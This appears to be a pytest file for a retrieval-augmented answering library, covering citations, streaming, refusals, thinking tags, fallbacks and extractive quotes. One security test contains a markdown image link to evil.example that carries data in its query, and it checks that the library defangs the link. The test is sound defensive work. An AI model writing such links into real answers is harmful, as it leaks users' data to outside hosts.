"""Answers in words: the same at every door, cited, with an outcome, whatever a model writes."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from pathlib import Path
from random import Random
from typing import Any

import pytest
from aiohttp import web
from support.serving import ScriptedGenerator, document, router, serve_router
from test_citations import nested_answer

from contextrouter import (
    Answer,
    Clarification,
    ContextRouter,
    Document,
    Fact,
    Hit,
    Intent,
    Interpreter,
    PluginError,
    Refusal,
    Request,
    RequestRefused,
    Thought,
)
from contextrouter.builtin.generators.extractive import NOTHING, Extractive
from contextrouter.builtin.generators.openai import OpenAI
from contextrouter.builtin.stages.gate import Gate
from contextrouter.contracts import Completion, Generator
from contextrouter.testing.fakes import Facts, Fixed, Hashing

QUESTION = "When does the library open?"
DOCS = [document("one", "The library opens at nine."), document("two", "It closes at six.")]


def answering(*pieces: str, chat: dict[str, Any] | None = None, **more: Any) -> ContextRouter:
    """A router whose generator "said" writes these pieces from two documents."""
    more.setdefault("generators", {"said": ScriptedGenerator(*pieces)})
    more.setdefault("answer", DOCS)
    settings = {"chat": {"synthesis_model": "said", **(chat or {})}, **more.pop("settings", {})}
    return router(settings, **more)


async def streamed(made: ContextRouter, question: str | Request) -> tuple[list[str], Answer]:
    """The pieces of a streamed answer, and the answer at its end."""
    items = [item async for item in made.answer_stream(question)]
    assert isinstance(items[-1], Answer)
    return [item for item in items if isinstance(item, str)], items[-1]


async def chat_reply(
    made: ContextRouter, *, stream: bool, **more: Any
) -> tuple[dict[str, Any], dict[str, Any]]:
    """The message of a chat, and its receipt with the finish reason."""
    messages = [*more.pop("before", ()), {"role": "user", "content": QUESTION}]
    body = {"model": "contextrouter", "messages": messages, "stream": stream}
    async with serve_router(made) as ask:
        reply = await ask("/v1/chat/completions", body)
    if not stream:
        (choice,) = reply.json["choices"]
        return choice["message"], {**reply.json["contextrouter"], "finish": choice["finish_reason"]}
    chunks = [data for _, data in reply.events if data != "[DONE]"]
    message: dict[str, Any] = {}
    for chunk in chunks:
        for name, text in chunk["choices"][0]["delta"].items() if chunk.get("choices") else ():
            message[name] = message.get(name, "") + text
    end = next(chunk for chunk in chunks if "contextrouter" in chunk)
    return message, {**end["contextrouter"], "finish": end["choices"][0]["finish_reason"]}


@pytest.mark.case("K38", "USE-11")
async def test_one_answer_comes_out_of_every_door_with_its_context_and_usage():
    async with answering("At ", "nine [", "1] or [7].") as made:
        whole = await made.answer(QUESTION)
        pieces, last = await streamed(made, QUESTION)
    assert (whole.text, whole.outcome, whole.generator) == ("At nine [1] or.", "answered", "said")
    assert [citation.title for citation in whole.citations] == ["one"]
    assert ("".join(pieces), last.text, last.citations) == (whole.text, whole.text, whole.citations)
    assert (whole.context.intent.kind, len(whole.context.envelopes)) == ("default", 2)
    (usage,) = whole.usage.models
    assert (usage.generator, usage.calls, (usage.tokens_in or 0) > 20) == ("said", 1, True)
    async with serve_router(answering("At ", "nine [", "1] or [7].")) as ask:
        sent = (await ask("/v1/answer", {"question": QUESTION})).json
        events = (await ask("/v1/answer", {"question": QUESTION, "stream": True})).events
        wrong = await ask("/v1/answer", {"question": QUESTION, "model": "other"})
        empty = await ask("/v1/answer", {"question": "  "})
    assert (sent["text"], sent["outcome"]) == (whole.text, whole.outcome)
    assert [citation["number"] for citation in sent["citations"]] == [1]
    assert sent["usage"]["models"][0]["calls"] == 1
    assert [envelope["document"]["id"] for envelope in sent["context"]["envelopes"]] == ["one", "two"]
    assert "".join(data["text"] for name, data in events if name == "text") == whole.text
    assert (events[-1][0], events[-1][1]["text"]) == ("result", whole.text)
    assert (wrong.status, empty.status) == (404, 422)
    message, receipt = await chat_reply(answering("At ", "nine [", "1] or [7]."), stream=False)
    assert (message["content"], list(receipt["citations"])) == (whole.text, ["1"])


class Vague(Interpreter):
    """Asks back, whatever the question is."""

    async def interpret(self, intent: Intent, context: Any) -> Intent:
        return intent.replace(clarify=Clarification(question="Which library?", reason="vague"))


GATED = {"rag": {"interpreters": [], "cache_enabled": False, "stages": ["gate"]}}
OUTCOMES: Sequence[tuple[str, dict[str, Any], str]] = [
    ("answered", {}, "At nine [1]."),
    (
        "gated",
        {"settings": GATED, "stages": {"gate": Gate()}},
        "Nothing was found that answers this question.",
    ),
    ("empty", {"answer": []}, "Nothing was found that answers this question."),
    (
        "clarify",
        {"settings": {"rag": {"interpreters": ["vague"]}}, "interpreters": {"vague": Vague()}},
        "Which library?",
    ),
    ("declined", {"generators": {"said": ScriptedGenerator(Refusal("I may not."))}}, "I may not."),
]


@pytest.mark.case("K12", "T16")
@pytest.mark.parametrize(("outcome", "more", "text"), OUTCOMES)
@pytest.mark.parametrize("stream", [False, True])
async def test_each_outcome_has_what_the_user_reads(
    outcome: str, more: dict[str, Any], text: str, stream: bool
):
    async with answering("At nine [1].", **more) as made:
        answer = (await streamed(made, QUESTION))[1] if stream else await made.answer(QUESTION)
    assert (answer.outcome, answer.text) == (outcome, text)


@pytest.mark.case("K12")
async def test_a_model_without_context_is_allowed_its_own_knowledge():
    said = ScriptedGenerator("From memory [1].")
    chat = {"no_context": "generate", "no_context_prompt": "Use what you know."}
    async with answering(chat=chat, answer=[], generators={"said": said}) as made:
        answer = await made.answer(QUESTION)
    assert (answer.text, answer.outcome, answer.citations) == ("From memory.", "empty", ())
    assert said.seen[0][0]["content"] == "Use what you know."


THINKING = "<think>The user asks [2]. [1] is weak.</think>\n\nIt opens at nine [1]."


@pytest.mark.case("NEW-05")
@pytest.mark.parametrize("size", [1, 2, 3, 7, 100])
@pytest.mark.parametrize("stream", [False, True])
async def test_thinking_is_no_part_of_the_answer_wherever_its_tag_is_cut(size: int, stream: bool):
    pieces = [THINKING[at : at + size] for at in range(0, len(THINKING), size)]
    async with answering(*pieces) as made:
        answer = (await streamed(made, QUESTION))[1] if stream else await made.answer(QUESTION)
    assert answer.text == "It opens at nine [1]."
    assert answer.thinking == "The user asks [2]. [1] is weak."
    assert [citation.number for citation in answer.citations] == [1]
    message, receipt = await chat_reply(answering(*pieces), stream=stream)
    assert (message["content"], message["reasoning_content"]) == (answer.text, answer.thinking)
    assert list(receipt["citations"]) == ["1"]


@pytest.mark.case("NEW-05")
async def test_a_marker_in_the_thinking_is_no_citation_and_thinking_alone_no_answer():
    async with answering("<think>[1]</think>At nine.") as made:
        answer = await made.answer(QUESTION)
    assert (answer.text, answer.citations, answer.checks["cited"]) == ("At nine.", (), False)
    async with answering("<think>It never ends", chat={"fallback": ""}) as made:
        with pytest.raises(PluginError, match="wrote no answer"):
            await made.answer(QUESTION)
    async with answering(Thought("A channel. "), "<b> is <think> here") as made:
        answer = await made.answer(QUESTION)
    assert (answer.thinking, answer.text) == ("A channel. ", "&lt;b> is &lt;think> here")


REFUSAL = {"content": None, "refusal": "I cannot help with that."}


@asynccontextmanager
async def model_server(message: dict[str, Any], finish: str) -> AsyncIterator[tuple[str, list[Any]]]:
    """A server that answers every chat with this message, whole or as a stream; the bodies that came."""
    bodies: list[Any] = []

    async def complete(request: web.Request) -> web.StreamResponse:
        bodies.append(await request.json())
        head = {"id": "c", "created": 1, "model": "m"}
        if not bodies[-1].get("stream"):
            choice = {"index": 0, "message": {"role": "assistant", **message}, "finish_reason": finish}
            return web.json_response({**head, "object": "chat.completion", "choices": [choice]})
        response = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
        await response.prepare(request)
        for delta, end in ((message, None), ({}, finish)):
            choice = {"index": 0, "delta": delta, "finish_reason": end}
            chunk = {**head, "object": "chat.completion.chunk", "choices": [choice]}
            await response.write(f"data: {json.dumps(chunk)}\n\n".encode())
        await response.write(b"data: [DONE]\n\n")
        return response

    app = web.Application()
    app.router.add_post("/v1/chat/completions", complete)
    runner = web.AppRunner(app, shutdown_timeout=0.1)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    try:
        yield f"http://127.0.0.1:{runner.addresses[0][1]}/v1", bodies
    finally:
        await runner.cleanup()


@pytest.mark.case("NEW-52")
@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize(
    ("message", "finish", "shown"),
    [
        (REFUSAL, "content_filter", ("I cannot help with that.", "content_filter")),
        (REFUSAL, "stop", ("I cannot help with that.", "stop")),
        ({"content": None}, "content_filter", ("The model declined to answer.", "content_filter")),
    ],
)
async def test_a_refusal_and_a_filter_are_passed_on_and_not_asked_for_again(
    message: dict[str, Any], finish: str, shown: tuple[str, str], stream: bool
):
    async with model_server(message, finish) as (url, bodies):
        remote = OpenAI(model="m", base_url=url, api_key="k")
        made = answering(chat={"guard": "retry"}, generators={"said": remote})
        sent, receipt = await chat_reply(made, stream=stream)
    assert (sent["refusal"], receipt["finish"], receipt["outcome"]) == (*shown, "declined")
    assert (sent.get("content", ""), len(bodies)) == ("", 1)


@pytest.mark.case("NEW-52")
@pytest.mark.parametrize("stream", [False, True])
async def test_an_empty_answer_is_a_failure_of_the_model(stream: bool):
    async with model_server({"content": ""}, "stop") as (url, _):
        remote = OpenAI(model="m", base_url=url, api_key="k")
        body = {
            "model": "contextrouter",
            "messages": [{"role": "user", "content": QUESTION}],
            "stream": stream,
        }
        async with serve_router(answering(chat={"fallback": ""}, generators={"said": remote})) as ask:
            reply = await ask("/v1/chat/completions", body)
    if stream:
        assert "wrote no answer" in reply.text
        assert '"finish_reason": "stop"' not in reply.text
    else:
        assert (reply.status, "wrote no answer" in reply.json["error"]["message"]) == (502, True)


async def test_an_answer_that_is_cut_says_so():
    async with answering("word " * 50, chat={"synthesis_max_tokens": 3}) as made:
        answer = await made.answer(QUESTION)
    assert (answer.finish, answer.outcome) == ("length", "answered")


@pytest.mark.parametrize("stream", [False, True])
async def test_a_model_that_fails_is_replaced_by_quotes_and_the_answer_says_so(stream: bool):
    broken = ScriptedGenerator(error=PluginError("the model is away"))
    async with answering(generators={"said": broken}) as made:
        answer = (await streamed(made, QUESTION))[1] if stream else await made.answer(QUESTION)
    assert (answer.text, answer.generator) == ("The library opens at nine. [1]", "extractive")
    assert answer.note == "Generator 'said' failed, 'extractive' wrote: the model is away"
    assert [usage.generator for usage in answer.usage.models] == ["said", "extractive"]
    _, receipt = await chat_reply(answering(generators={"said": broken}), stream=stream)
    assert (receipt["generator"], receipt["note"]) == ("extractive", answer.note)


@pytest.mark.parametrize("own", [False, True])
async def test_a_failure_in_the_middle_and_a_fallback_of_another_kind_are_raised(own: bool):
    """What is out cannot be taken back; and a plugin that is only called "extractive" may send texts out."""
    said = ScriptedGenerator(*([] if own else ["At "]), error=PluginError("the model is away"))
    other = ScriptedGenerator("x")
    more = {"generators": {"said": said, **({"extractive": other} if own else {})}}
    async with answering(**more) as made:
        with pytest.raises(PluginError, match="the model is away"):
            await streamed(made, QUESTION)
    assert other.seen == []


@pytest.mark.case("T14", "T11")
@pytest.mark.parametrize(
    ("text", "same"),
    [
        ("Die Bibliothek öffnet am Morgen um neun Uhr und schließt am Abend um sechs Uhr [1].", False),
        ("The library opens in the morning at nine and closes in the evening at six [1].", True),
        ("La bibliothèque ouvre tous les matins à neuf heures et ferme le soir [1].", False),
        ('The sign at the door of the library says "Die Bibliothek öffnet um neun Uhr" [1].', True),
    ],
)
async def test_the_language_of_an_answer_is_compared_not_its_script(text: str, same: bool):
    async with answering(text) as made:
        answer = await made.answer("When does the library in the old town open in the morning?")
    assert answer.checks["language"] is same


@pytest.mark.case("T14")
async def test_with_retry_an_answer_in_another_language_is_asked_for_once_more():
    class Learning(ScriptedGenerator):
        async def stream(self, messages):
            first = "Die Bibliothek öffnet am Morgen um neun Uhr und schließt am Abend um sechs [1]."
            self.pieces = ("The library opens at nine in the morning [1].",) if self.seen else (first,)
            async for piece in super().stream(messages):
                yield piece

    said = Learning()
    async with answering(chat={"guard": "retry"}, generators={"said": said}) as made:
        answer = await made.answer("When does the library in the old town open in the morning?")
    assert (answer.text, len(said.seen)) == ("The library opens at nine in the morning [1].", 2)
    assert dict(answer.checks) == {"cited": True, "language": True}


@pytest.mark.case("K34", "K35")
async def test_examples_are_a_json_list_too_and_found_by_meaning_but_never_the_question(tmp_path: Path):
    path = tmp_path / "examples.json"
    entries = [
        {"question": QUESTION, "answer": "SELF"},
        {"question": "Opening hours of a library?", "ground_truth": "NEAR"},
        {"question": "Which fish live in the sea?", "answer": "FAR"},
    ]
    path.write_text(json.dumps(entries))
    said = ScriptedGenerator("x")
    chat = {"examples": str(path), "examples_embedder": "words", "max_examples": 1}
    async with answering(
        chat=chat, generators={"said": said}, embedders={"words": Hashing(dimensions=256)}
    ) as made:
        await made.answer(QUESTION)
    text = said.seen[0][0]["content"]
    assert [word in text for word in ("SELF", "NEAR", "FAR")] == [False, True, False]


@pytest.mark.case("CIT-02")
async def test_markers_of_earlier_turns_are_taken_out_before_the_model_sees_them():
    said = ScriptedGenerator("x [1]")
    before = [
        {"role": "user", "content": "Is it [1] open?"},
        {"role": "assistant", "content": "Yes [3], see `a[0]` [1][2]."},
    ]
    await chat_reply(answering(generators={"said": said}), stream=False, before=before)
    assert [turn["content"] for turn in said.seen[0][1:]] == ["Is it [1] open?", "Yes, see `a[0]`.", QUESTION]


@pytest.mark.case("CIT-02", "CIT-03")
@pytest.mark.parametrize("links", ["cited", "all"])
async def test_stream_and_whole_are_equal_over_300_answers_of_nested_markdown(links: str):
    """Byte by byte, at the door: thinking, markers and links together."""

    class Nested(Generator):
        """Writes the answer of a seed, cut by another one."""

        def __init__(self) -> None:
            self.text, self.cuts = "", Random(0)

        async def complete(self, messages: Any, *, schema: Any = None) -> Completion:
            return Completion(text=self.text)

        async def stream(self, messages: Any) -> AsyncIterator[str]:
            at = 0
            while at < len(self.text):
                size = self.cuts.randint(1, self.cuts.choice((2, 6, 20)))
                yield self.text[at : at + size]
                at += size

    nested = Nested()
    docs = [document(name, f"About {name}.") for name in ("one", "two", "three")]
    async with answering(answer=docs, generators={"said": nested}, chat={"answer_links": links}) as made:
        order = made.answering.make_order(Request(question=QUESTION))
        context = await made.route(QUESTION)
        for seed in range(300):
            random = Random(seed)
            nested.text = random.choice(("", "<think>why [2]\n</think>")) + "So: " + nested_answer(random)
            nested.cuts = Random(10**9)
            whole = await made.answering.whole(order, context)
            for cut in range(2):
                nested.cuts = Random(seed * 10 + cut)
                items = [item async for item in made.answering.pieces(order, context)]
                texts = [item for item in items[:-1] if not isinstance(item, Thought)]
                assert "".join(texts) == items[-1].text == whole.text, (seed, nested.text)
                assert items[-1].cited == whole.cited
                assert "".join(item for item in items[:-1] if isinstance(item, Thought)) == whole.thinking


@pytest.mark.case("SEC-02", "SEC-06")
@pytest.mark.parametrize("stream", [False, True])
async def test_a_compartment_binds_its_generator_and_links_are_harmless_at_every_door(stream: bool):
    text = "At nine [1] ![x](https://evil.example/?q=pay)"
    for door in ("library", "answer", "chat"):
        writers = {"said": ScriptedGenerator("x"), "inner": ScriptedGenerator(*text)}
        made = answering(
            answer=[document("pay", "About pay.", compartment="hr")],
            chat={"compartment_generators": {"hr": "inner"}, "models": ["said"]},
            generators=writers,
        )
        if door == "library":
            async with made:
                answer = (await streamed(made, QUESTION))[1] if stream else await made.answer(QUESTION)
            shown = answer.text
        elif door == "answer":
            async with serve_router(made) as ask:
                reply = await ask("/v1/answer", {"question": QUESTION, "stream": stream, "model": "said"})
            shown = reply.events[-1][1]["text"] if stream else reply.json["text"]
        else:
            shown = (await chat_reply(made, stream=stream))[0]["content"]
        assert shown == "At nine [1] ![x] (hxxps://evil.example/?q=pay)", door
        assert [name for name, writer in writers.items() if writer.seen] == ["inner"], door


@pytest.mark.case("SEC-02")
async def test_two_rules_for_one_context_refuse_it_at_every_door():
    docs = [document("a", compartment="hr"), document("b", compartment="law")]
    writers = {name: ScriptedGenerator(name) for name in ("said", "inner", "lawyer")}
    chat = {"compartment_generators": {"hr": "inner", "law": "lawyer"}}
    async with answering(answer=docs, chat=chat, generators=writers) as made:
        for call in (made.answer(QUESTION), streamed(made, QUESTION)):
            with pytest.raises(RequestRefused, match="'hr' to 'inner' and 'law' to 'lawyer'"):
                await call
    async with serve_router(answering(answer=docs, chat=chat, generators=writers)) as ask:
        for stream in (False, True):
            assert (await ask("/v1/answer", {"question": QUESTION, "stream": stream})).status == 422
    assert [writer.seen for writer in writers.values()] == [[], [], []]


@pytest.mark.case("SEC-12")
async def test_a_caller_with_a_scope_reads_that_a_model_failed_and_not_why():
    broken = ScriptedGenerator(error=PluginError("no way to http://10.0.0.7/secret"))
    from support.serving import KEY, key

    docs = [document("one", "The library opens at nine.", sensitivity="public")]
    made = answering(answer=docs, generators={"said": broken}, settings=key())
    async with serve_router(made, token=KEY) as ask:
        answer = (await ask("/v1/answer", {"question": QUESTION})).json
        messages = [{"role": "user", "content": QUESTION}]
        chat = (await ask("/v1/chat/completions", {"model": "contextrouter", "messages": messages})).json
    assert answer["note"] == chat["contextrouter"]["note"] == "Generator 'said' failed, 'extractive' wrote"


@pytest.mark.case("USE-20")
async def test_answerability_judges_the_text_that_is_handed_over_and_not_what_was_cut():
    """The row that is asked for stands behind the budget: it cannot be cited."""
    rows = "".join(f"| Station {n} | {n} metres |\n" for n in range(700))
    table = f"| name | height |\n|---|---|\n{rows}| Zugspitze observatory | 2962 metres |\n"
    settings = {"rag": {"interpreters": [], "cache_enabled": False, "token_budget": 500}}
    question = "How high is the Zugspitze observatory?"
    async with router(settings, answer=[document("table", table)]) as made:
        answer = await made.answer(question)
    context = answer.context
    assert "Zugspitze" not in context.text
    assert 0 < (context.citations[0].characters or 0) < len(table)
    assert context.answerability.level != "strong"
    assert "missing: " in context.answerability.reason
    assert (answer.outcome, answer.text) == ("empty", NOTHING)
    async with router({"rag": {**settings["rag"], "token_budget": 0}}, answer=[document("t", table)]) as made:
        answer = await made.answer(question)
    assert answer.context.citations[0].characters is None
    assert answer.text == "name: Zugspitze observatory; height: 2962 metres [1]"


def test_what_is_cut_is_counted_in_the_text_of_a_stranger_too():
    from contextrouter.pipeline.assembly import CUT, assemble
    from contextrouter.testing.builders import envelope

    for untrusted in (False, True):
        content = "### not a heading\n" + "word " * 400
        page = envelope(Document(id="a", title="A", content=content, untrusted=untrusted))
        made = assemble([page], budget=300, count=len, truncate=lambda text, size: text[:size])
        (citation,) = made.citations
        shown = made.text.split(CUT)[0]
        assert citation.characters is not None
        assert shown.count("word ") == content[: citation.characters].count("word ")


async def test_an_answer_needs_the_generator_alone_and_leaves_none_behind():
    """A reader that stops early closes the model's stream."""
    closed = asyncio.Event()

    class Endless(ScriptedGenerator):
        async def stream(self, messages):
            try:
                while True:
                    yield "word "
                    await asyncio.sleep(0)
            finally:
                closed.set()

    async with answering(generators={"said": Endless()}) as made:
        stream = made.answer_stream(QUESTION)
        assert await anext(stream) == "word"
        await stream.aclose()
    assert closed.is_set()


async def quotes(question: str, *hits: Hit, facts: Sequence[Fact] = (), **more: Any) -> Answer:
    """What `extractive` answers from these documents."""
    sources: dict[str, Any] = {"connectors": {"docs": Fixed(list(hits))}}
    if facts:
        sources["facts"] = {"graph": Facts(list(facts))}
    async with router(more.pop("settings", None), **sources) as made:
        return await made.answer(question)


def under(*path: str, content: str, title: str = "", **labels: Any) -> Hit:
    """A chunk under its heading path."""
    return Hit(document=Document(id="x", title=title or path[0], path=path, content=content, **labels))


@pytest.mark.case("USE-11")
async def test_quotes_abstain_where_the_context_says_nothing_of_the_question():
    docs = [
        document("loans", "Our lending policy allows three books for two weeks."),
        document("cafe", "The cafe opens at ten. It is closed on Monday."),
    ]
    answer = await quotes("What is our vacation policy?", *docs)
    assert (answer.outcome, answer.text, answer.finish) == ("empty", NOTHING, "abstained")
    assert (answer.citations, dict(answer.checks)) == ((), {})
    answer = await quotes("What is our lending policy?", *docs)
    assert answer.text == "Our lending policy allows three books for two weeks. [1]"


@pytest.mark.case("USE-11")
@pytest.mark.parametrize(
    ("question", "content", "text"),
    [
        # the sentence that has what is asked for
        ("When was the tower built?", "The tower was built by hand. The tower was built in 1901.", "1901"),
        (
            "Who built the tower?",
            "The tower was built of stone. The tower was built by Ada Stone.",
            "Ada Stone",
        ),
        ("How many steps has the tower?", "The tower has steps of oak. The tower has 311 steps.", "311"),
        ("Why is the tower closed?", "The tower is closed. The tower is closed because of ice.", "because"),
    ],
)
async def test_quotes_prefer_the_sentence_with_what_is_asked_for(question: str, content: str, text: str):
    settings = {
        "generators": {"short": {"use": "extractive", "sentences": 1}},
        "chat": {"synthesis_model": "short"},
    }
    answer = await quotes(question, document("tower", content), settings=settings)
    assert text in answer.text
    assert answer.text.endswith("[1]")


@pytest.mark.case("USE-11")
async def test_quotes_are_no_breadcrumb_no_heading_and_no_line_of_a_bibliography():
    content = (
        "## Owls of the north\n\nOwls hunt at night. They hear well.\n\nSmith, J. Owls hunt. Nature, 2001, pp. 3-9.\n\n"
        "## References\n\nHow owls hunt: a field guide to owls."
    )
    for path in (("Owls", "How owls hunt"), ("Owls: A Guide", "How owls hunt")):
        answer = await quotes("How do owls hunt?", under(*path, content=content))
        assert answer.text == "Owls hunt at night. They hear well. [1]"


@pytest.mark.case("USE-11")
async def test_quotes_join_neighbours_and_read_rows_records_and_facts():
    table = "| name | height | guests |\n|---|---|---|\n| Hut A | 1200 m | 30 |\n| Hut B | 2400 m | 12 |"
    assert (await quotes("What is the height of Hut B?", document("huts", table))).text == (
        "Hut B — height: 2400 m [1]"
    )
    record = "name: Hut B\nheight: 2400 m\nkeeper: Ada Stone"
    answer = await quotes("Who is the keeper of Hut B?", document("hut", record))
    assert answer.text == "Hut B — keeper: Ada Stone [1]"
    founders = ["Ada Stone", "Ben Hill", "Cleo Lake", "Dan Wood"]
    facts = [Fact(subject="Acme", predicate="founded_by", object=name) for name in founders]
    answer = await quotes("Who founded Acme?", facts=facts)
    assert answer.text == "\n".join(f"- Acme — founded_by — {name}" for name in founders)
    assert answer.outcome == "answered"


async def test_quotes_behind_open_code_keep_their_number_and_facts_of_strangers_are_read():
    docs = [
        document("one", "A hut is a house.\n\n```\nhut = house\n"),
        document("two", "```\nx\n```\n\nThe keeper of Hut B is Ada Stone.\n\n```\n"),
    ]
    answer = await quotes("Who is the keeper of Hut B?", *docs)
    assert answer.text == "The keeper of Hut B is Ada Stone. [2]"
    facts = [
        Fact(subject="Acme", predicate="founded_by", object="Ada Stone"),
        Fact(subject="Acme", predicate="founded_by", object="Ben Hill", untrusted=True),
    ]
    answer = await quotes("Who founded Acme?", facts=facts)
    assert answer.text == "- Acme — founded_by — Ada Stone\n- Acme — founded_by — Ben Hill"


async def test_quotes_go_on_from_the_question_before_only_where_this_one_refers_back():
    docs = [
        document("starter", "A sourdough starter is fed with rye flour."),
        document("photon", "A photon is a particle of light."),
    ]
    for question, text in (
        ("And with what?", "A sourdough starter is fed with rye flour. [1]"),
        ("What is a photon?", "A photon is a particle of light. [2]"),
    ):
        history = ({"role": "user", "content": "How is a sourdough starter fed?"},)
        async with router(answer=docs) as made:
            answer = await made.answer(question, history=history)
        assert answer.text == text


def test_the_share_that_a_document_must_hold_is_a_share():
    with pytest.raises(ValueError, match="coverage 2 is not between 0 and 1"):
        Extractive(coverage=2)
